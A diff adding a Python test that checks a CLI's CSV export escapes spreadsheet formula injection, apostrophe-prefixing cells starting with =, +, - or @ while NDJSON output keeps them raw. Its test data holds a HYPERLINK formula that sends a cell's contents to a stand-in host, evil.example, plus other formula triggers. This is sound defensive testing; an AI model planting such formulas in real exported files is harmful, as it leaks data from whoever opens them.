@@ -101,6 +101,28 @@ def test_csv_import_with_a_column_mapping_and_a_dry_run(cli: CliRunner, tmp_path
     assert rows[0]["occurred_at"].startswith("2025-05-01T08:00:00")
 
 
+def test_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(
+    cli: CliRunner, tmp_path: Path
+) -> None:
+    account = new_account(cli, "Formulas")
+    link = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    lines = [
+        {"event": "signup", "contact": {"email": "f@example.com"}, "title": link, "value": -12.5},
+        {"event": "+cmd", "contact": {"external_id": "@SUM(1+1)"}, "value": "-1+1"},
+    ]
+    file = tmp_path / "events.ndjson"
+    file.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    assert "stored 2" in invoke(cli, "import", str(file), "--account", account)
+    output = invoke(cli, "export", "events", "--account", account, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(output[output.index("id,") :])))
+    assert [(r["event"], r["title"], r["value"], r["external_id"]) for r in rows] == [
+        ("signup", "'" + link, "-12.5", ""),
+        ("'+cmd", "", "'-1+1", "'@SUM(1+1)"),
+    ]
+    # NDJSON is no spreadsheet's: its values stay as they were
+    assert [e["title"] for e in exported(cli, account)] == [link, None]
+
+
 def test_export_contacts_to_a_file(cli: CliRunner, tmp_path: Path) -> None:
     account = new_account(cli, "Exporter")
     file = tmp_path / "in.ndjson"
